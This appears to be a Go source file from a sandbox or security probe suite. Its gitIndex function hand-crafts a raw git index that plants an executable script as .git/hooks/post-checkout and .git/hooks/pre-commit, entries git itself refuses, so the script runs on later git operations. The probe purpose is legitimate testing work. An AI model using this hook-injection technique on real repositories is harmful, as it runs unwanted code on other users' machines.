//go:build linux

package inside

import (
	"crypto/sha1"
	"encoding/binary"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
)

// gitIndex writes an index with hooks in it, which git itself would refuse.
func gitIndex(p *Probe) {
	dir := p.Arg("dir")
	p.Try("put hooks into the index", func() error {
		script := filepath.Join(dir, "script.txt")
		if err := tripHook(p, script); err != nil {
			return err
		}
		out, err := tool(dir, gitEnv(), "git", "hash-object", "-w", script)
		if err != nil {
			return refused(out, err)
		}
		id, err := hex.DecodeString(strings.TrimSpace(string(out)))
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(dir, ".git/index"), indexOf(id, ".git/hooks/post-checkout", ".git/hooks/pre-commit"), 0o644)
	})
}

// indexOf is a git index of programs with one content (gitformat-index(5)).
func indexOf(id []byte, names ...string) []byte {
	b := binary.BigEndian.AppendUint32([]byte("DIRC\x00\x00\x00\x02"), uint32(len(names)))
	for _, name := range names {
		e := binary.BigEndian.AppendUint32(make([]byte, 24), 0o100755)
		e = append(append(e, make([]byte, 12)...), id...)
		e = append(binary.BigEndian.AppendUint16(e, uint16(len(name))), name...)
		b = append(b, append(e, make([]byte, 8-len(e)%8)...)...)
	}
	sum := sha1.Sum(b)
	return append(b, sum[:]...)
}
